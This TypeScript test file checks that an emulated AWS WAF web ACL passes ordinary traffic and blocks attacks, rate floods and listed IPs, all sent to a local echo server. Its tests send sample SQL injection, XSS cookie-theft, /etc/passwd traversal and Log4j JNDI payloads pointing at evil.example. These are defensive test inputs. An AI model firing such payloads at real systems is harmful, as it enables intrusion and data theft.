// WAF deciding live traffic: a web ACL associated with a Warden load balancer blocks, counts, labels and rate-limits real HTTP requests.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import {
  CreateListenerCommand,
  CreateLoadBalancerCommand,
  ElasticLoadBalancingV2Client,
} from '@aws-sdk/client-elastic-load-balancing-v2';
import {
  AssociateWebACLCommand,
  CreateIPSetCommand,
  CreateWebACLCommand,
  GetWebACLCommand,
  UpdateWebACLCommand,
  WAFV2Client,
  type Rule,
} from '@aws-sdk/client-wafv2';
import { startWarden, type TestWarden } from '../helpers/warden.js';
import { forwardingListener, freePort, listenLocally, localTargetGroup } from '../helpers/elbv2.js';

let w: TestWarden;
let waf: WAFV2Client;
let app: Server;
let listenerPort: number;
let acl: { Name: string; Id: string; ARN: string };

const vis = (name: string) => ({ SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: name });
const none = [{ Priority: 0, Type: 'NONE' as const }];

interface Reply {
  status: number;
  headers: IncomingHttpHeaders;
  body: Buffer;
}

/** One request to the listener on its own connection (so localAddress picks the client's source address). */
function send(
  path: string,
  opts: { method?: string; headers?: Record<string, string>; body?: string | Buffer; from?: string } = {},
): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port: listenerPort,
        path,
        method: opts.method ?? 'GET',
        agent: false,
        headers: { 'User-Agent': 'waf-e2e/1.0', ...opts.headers },
        ...(opts.from ? { localAddress: opts.from } : {}),
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(opts.body);
  });
}

const FORBIDDEN_PAGE =
  '<html>\r\n<head><title>403 Forbidden</title></head>\r\n<body>\r\n<center><h1>403 Forbidden</h1></center>\r\n</body>\r\n</html>\r\n';

async function assertBlocked(reply: Promise<Reply>, what: string): Promise<void> {
  const r = await reply;
  assert.equal(r.status, 403, `${what}: expected 403, got ${r.status} ${r.body.toString().slice(0, 200)}`);
  assert.equal(r.body.toString(), FORBIDDEN_PAGE, what);
  assert.equal(r.headers['server'], 'awselb/2.0');
  assert.equal(r.headers['x-app'], undefined, `${what} reached the app`);
}

async function assertPassed(reply: Promise<Reply>, what: string): Promise<Reply> {
  const r = await reply;
  assert.equal(r.status, 200, `${what}: expected 200, got ${r.status} ${r.body.toString().slice(0, 200)}`);
  assert.equal(r.headers['x-app'], 'echo', what);
  return r;
}

function rules(account: string, ipSetArn: string): Rule[] {
  const label = `awswaf:${account}:webacl:live-acl:beta`;
  return [
    {
      Name: 'deny-listed-ips',
      Priority: 0,
      Statement: { IPSetReferenceStatement: { ARN: ipSetArn } },
      Action: { Block: {} },
      VisibilityConfig: vis('ips'),
    },
    {
      Name: 'flood',
      Priority: 1,
      Statement: {
        RateBasedStatement: {
          Limit: 10,
          EvaluationWindowSec: 60,
          AggregateKeyType: 'IP',
          ScopeDownStatement: {
            ByteMatchStatement: {
              FieldToMatch: { UriPath: {} },
              SearchString: new TextEncoder().encode('/flood'),
              PositionalConstraint: 'STARTS_WITH',
              TextTransformations: none,
            },
          },
        },
      },
      Action: { Block: {} },
      VisibilityConfig: vis('flood'),
    },
    {
      Name: 'tag-beta',
      Priority: 2,
      Statement: {
        ByteMatchStatement: {
          FieldToMatch: { SingleHeader: { Name: 'x-tag' } },
          SearchString: new TextEncoder().encode('beta'),
          PositionalConstraint: 'EXACTLY',
          TextTransformations: none,
        },
      },
      Action: { Count: { CustomRequestHandling: { InsertHeaders: [{ Name: 'tagged', Value: 'beta' }] } } },
      RuleLabels: [{ Name: 'beta' }],
      VisibilityConfig: vis('tag'),
    },
    {
      Name: 'beta-denied',
      Priority: 3,
      Statement: {
        AndStatement: {
          Statements: [
            { LabelMatchStatement: { Scope: 'LABEL', Key: label } },
            {
              ByteMatchStatement: {
                FieldToMatch: { QueryString: {} },
                SearchString: new TextEncoder().encode('deny=1'),
                PositionalConstraint: 'CONTAINS',
                TextTransformations: none,
              },
            },
          ],
        },
      },
      Action: {
        Block: {
          CustomResponse: {
            ResponseCode: 429,
            CustomResponseBodyKey: 'slow-down',
            ResponseHeaders: [{ Name: 'retry-after', Value: '30' }],
          },
        },
      },
      VisibilityConfig: vis('beta'),
    },
    {
      Name: 'sqli-search-header',
      Priority: 4,
      Statement: {
        SqliMatchStatement: {
          FieldToMatch: { SingleHeader: { Name: 'x-search' } },
          TextTransformations: [{ Priority: 0, Type: 'URL_DECODE' }],
        },
      },
      Action: { Block: {} },
      VisibilityConfig: vis('sqli-header'),
    },
    ...(
      [
        ['known-bad', 10, 'AWSManagedRulesKnownBadInputsRuleSet'],
        ['sqli', 20, 'AWSManagedRulesSQLiRuleSet'],
        ['common', 30, 'AWSManagedRulesCommonRuleSet'],
      ] as const
    ).map(([name, priority, group]): Rule => ({
      Name: name,
      Priority: priority,
      Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: group } },
      OverrideAction: { None: {} },
      VisibilityConfig: vis(name),
    })),
  ];
}

before(async () => {
  w = await startWarden();
  waf = new WAFV2Client(w.clientConfig);
  const elb = new ElasticLoadBalancingV2Client(w.clientConfig);
  // The app echoes what reached it: method, URL, headers it was sent, body.
  app = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.from(
        JSON.stringify({
          method: req.method,
          url: req.url,
          headers: req.headers,
          body: Buffer.concat(chunks).toString('base64'),
        }),
      );
      res.writeHead(200, { 'X-App': 'echo', 'Content-Type': 'application/json', 'Content-Length': body.length });
      res.end(body);
    });
  });
  const appPort = await listenLocally(app);

  const lb = (await elb.send(new CreateLoadBalancerCommand({ Name: 'waf-live', Type: 'application' })))
    .LoadBalancers![0]!;
  const tg = await localTargetGroup(elb, 'waf-live-app', appPort);
  listenerPort = await freePort();
  await elb.send(new CreateListenerCommand(forwardingListener(lb.LoadBalancerArn!, tg.TargetGroupArn!, listenerPort)));

  const ipSet = await waf.send(
    new CreateIPSetCommand({ Name: 'deny', Scope: 'REGIONAL', IPAddressVersion: 'IPV4', Addresses: ['127.0.0.2/32'] }),
  );
  const created = await waf.send(
    new CreateWebACLCommand({
      Name: 'live-acl',
      Scope: 'REGIONAL',
      DefaultAction: { Allow: {} },
      Rules: rules(w.accountId, ipSet.Summary!.ARN!),
      CustomResponseBodies: { 'slow-down': { ContentType: 'APPLICATION_JSON', Content: '{"error":"slow down"}' } },
      VisibilityConfig: vis('live-acl'),
    }),
  );
  acl = { Name: 'live-acl', Id: created.Summary!.Id!, ARN: created.Summary!.ARN! };
  await waf.send(new AssociateWebACLCommand({ WebACLArn: acl.ARN, ResourceArn: lb.LoadBalancerArn }));
});

after(async () => {
  await new Promise((r) => app.close(r));
  await w?.stop();
});

test('ordinary traffic passes through unchanged: status, headers and body as the app sent them', async () => {
  const payload = 'name=Ada+Lovelace&note=hello%20world';
  const r = await assertPassed(
    send('/orders/42?page=2&sort=asc', {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: 'session=abc123', 'X-Custom': 'v' },
      body: payload,
    }),
    'benign POST',
  );
  const seen = JSON.parse(r.body.toString()) as {
    method: string;
    url: string;
    headers: Record<string, string>;
    body: string;
  };
  assert.equal(seen.method, 'POST');
  assert.equal(seen.url, '/orders/42?page=2&sort=asc');
  assert.equal(Buffer.from(seen.body, 'base64').toString(), payload);
  assert.equal(seen.headers['cookie'], 'session=abc123');
  assert.equal(seen.headers['x-custom'], 'v');
  assert.equal(seen.headers['user-agent'], 'waf-e2e/1.0');
  assert.equal(r.headers['content-type'], 'application/json');
  assert.equal(Number(r.headers['content-length']), r.body.length);
  // No rule inserted anything for this request.
  assert.deepEqual(
    Object.keys(seen.headers).filter((h) => h.startsWith('x-amzn-waf-')),
    [],
  );
});

test('SQL injection is blocked in the query, a form body, a JSON body, a cookie and (a custom rule) a header', async () => {
  await assertBlocked(send("/search?id=1'%20OR%20'1'%3D'1"), 'query');
  await assertBlocked(
    send('/login', {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: "user=admin'%20OR%201%3D1--&pass=x",
    }),
    'form body',
  );
  await assertBlocked(
    send('/api/items', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ filter: "1' UNION SELECT password FROM users--" }),
    }),
    'JSON body',
  );
  await assertBlocked(send('/profile', { headers: { Cookie: "id=1' OR '1'='1" } }), 'cookie');
  await assertBlocked(send('/profile', { headers: { 'X-Search': "1' OR '1'='1" } }), 'header');
  await assertPassed(send('/search?id=1042&q=blue%20shoes'), 'a harmless query');
});

test('cross-site scripting, path traversal, known-bad user agents and Log4j lookups are blocked', async () => {
  await assertBlocked(send('/comment?text=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), 'XSS in query');
  await assertBlocked(
    send('/comment', {
      method: 'POST',
      headers: { 'Content-Type': 'text/html' },
      body: '<img src=x onerror=alert(document.cookie)>',
    }),
    'XSS in body',
  );
  await assertBlocked(send('/download?file=../../../../etc/passwd'), 'traversal in query');
  await assertBlocked(send('/static/..%2f..%2f..%2fetc/passwd'), 'traversal in path');
  await assertBlocked(send('/', { headers: { 'User-Agent': 'nessus' } }), 'scanner user agent');
  await assertBlocked(send('/', { headers: { 'X-Api-Version': '${jndi:ldap://evil.example/a}' } }), 'Log4j header');
  await assertBlocked(send('/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D'), 'Log4j query');
  await assertBlocked(send('/', { headers: { Host: 'localhost' } }), 'Host: localhost');
});

test('an IP set blocks the addresses it lists and only those', async () => {
  await assertBlocked(send('/', { from: '127.0.0.2' }), 'from 127.0.0.2');
  const r = await assertPassed(send('/', { from: '127.0.0.3' }), 'from 127.0.0.3');
  const seen = JSON.parse(r.body.toString()) as { headers: Record<string, string> };
  assert.equal(seen.headers['x-forwarded-for'], '127.0.0.3');
});

test('a rate-based rule blocks a flood from one source once it passes the limit, and not other sources', async () => {
  const statuses: number[] = [];
  for (let i = 0; i < 14; i++) statuses.push((await send(`/flood/${i}`, { from: '127.0.0.4' })).status);
  assert.deepEqual(statuses.slice(0, 10), Array(10).fill(200));
  assert.deepEqual(statuses.slice(10), Array(4).fill(403));
  // Another source is counted on its own; the flooding source still reaches paths outside the scope-down.
  await assertPassed(send('/flood/other', { from: '127.0.0.5' }), 'another source');
  await assertPassed(send('/elsewhere', { from: '127.0.0.4' }), 'outside the scope-down');
});

test('a Count rule lets the request through with its inserted header and a label a later rule matches', async () => {
  const counted = await assertPassed(send('/beta', { headers: { 'X-Tag': 'beta' } }), 'counted');
  const seen = JSON.parse(counted.body.toString()) as { headers: Record<string, string> };
  assert.equal(seen.headers['x-amzn-waf-tagged'], 'beta');
  // The later rule needs the label: deny=1 alone passes...
  await assertPassed(send('/beta?deny=1'), 'no label');
  // ...and with the label it terminates with the custom response.
  const denied = await send('/beta?deny=1', { headers: { 'X-Tag': 'beta' } });
  assert.equal(denied.status, 429);
  assert.equal(denied.body.toString(), '{"error":"slow down"}');
  assert.equal(denied.headers['content-type'], 'application/json');
  assert.equal(denied.headers['retry-after'], '30');
  assert.equal(denied.headers['x-app'], undefined);
});

test('UpdateWebACL applies to the next request: a new rule blocks, its removal lets through again', async () => {
  await assertPassed(send('/internal/report'), 'before the update');
  const current = await waf.send(new GetWebACLCommand({ Name: acl.Name, Scope: 'REGIONAL', Id: acl.Id }));
  // The rules come back as they were written (a blob member included), so sending them back changes nothing.
  const flood = current.WebACL!.Rules!.find((r) => r.Name === 'flood')!;
  const searched = flood.Statement!.RateBasedStatement!.ScopeDownStatement!.ByteMatchStatement!.SearchString!;
  assert.equal(Buffer.from(searched).toString(), '/flood');
  const blockInternal: Rule = {
    Name: 'no-internal',
    Priority: 5,
    Statement: {
      ByteMatchStatement: {
        FieldToMatch: { UriPath: {} },
        SearchString: new TextEncoder().encode('/internal/'),
        PositionalConstraint: 'STARTS_WITH',
        TextTransformations: none,
      },
    },
    Action: { Challenge: {} },
    VisibilityConfig: vis('internal'),
  };
  const base = {
    Name: acl.Name,
    Scope: 'REGIONAL' as const,
    Id: acl.Id,
    DefaultAction: current.WebACL!.DefaultAction!,
    CustomResponseBodies: current.WebACL!.CustomResponseBodies!,
    VisibilityConfig: current.WebACL!.VisibilityConfig!,
  };
  const updated = await waf.send(
    new UpdateWebACLCommand({
      ...base,
      Rules: [...current.WebACL!.Rules!, blockInternal],
      LockToken: current.LockToken,
    }),
  );
  // Challenge without a token: 202, x-amzn-waf-action, the interstitial only for a client that accepts HTML.
  const challenged = await send('/internal/report', { headers: { Accept: 'text/html' } });
  assert.equal(challenged.status, 202);
  assert.equal(challenged.headers['x-amzn-waf-action'], 'challenge');
  assert.match(challenged.body.toString(), /<html>/);
  assert.equal(challenged.headers['x-app'], undefined);
  const api = await send('/internal/report', { headers: { Accept: 'application/json' } });
  assert.equal(api.status, 202);
  assert.equal(api.body.length, 0);

  await waf.send(new UpdateWebACLCommand({ ...base, Rules: current.WebACL!.Rules!, LockToken: updated.NextLockToken }));
  await assertPassed(send('/internal/report'), 'after the rule is removed');
});

test('a web ACL version the engine cannot enforce leaves the previous version in force', async () => {
  const current = await waf.send(new GetWebACLCommand({ Name: acl.Name, Scope: 'REGIONAL', Id: acl.Id }));
  // CMD_LINE_WIN has no exact semantics AWS documents, so the engine refuses it at compile time.
  const unenforceable: Rule = {
    Name: 'cmd-line',
    Priority: 6,
    Statement: {
      ByteMatchStatement: {
        FieldToMatch: { UriPath: {} },
        SearchString: new TextEncoder().encode('/everything'),
        PositionalConstraint: 'STARTS_WITH',
        TextTransformations: [{ Priority: 0, Type: 'CMD_LINE_WIN' }],
      },
    },
    Action: { Block: {} },
    VisibilityConfig: vis('cmd'),
  };
  await waf.send(
    new UpdateWebACLCommand({
      Name: acl.Name,
      Scope: 'REGIONAL',
      Id: acl.Id,
      DefaultAction: current.WebACL!.DefaultAction!,
      CustomResponseBodies: current.WebACL!.CustomResponseBodies!,
      VisibilityConfig: current.WebACL!.VisibilityConfig!,
      Rules: [...current.WebACL!.Rules!, unenforceable],
      LockToken: current.LockToken,
    }),
  );
  // The new version is not enforced, the previous one still is.
  await assertPassed(send('/everything'), 'the refused rule');
  await assertBlocked(send("/search?id=1'%20OR%20'1'%3D'1"), 'query after the update');
});
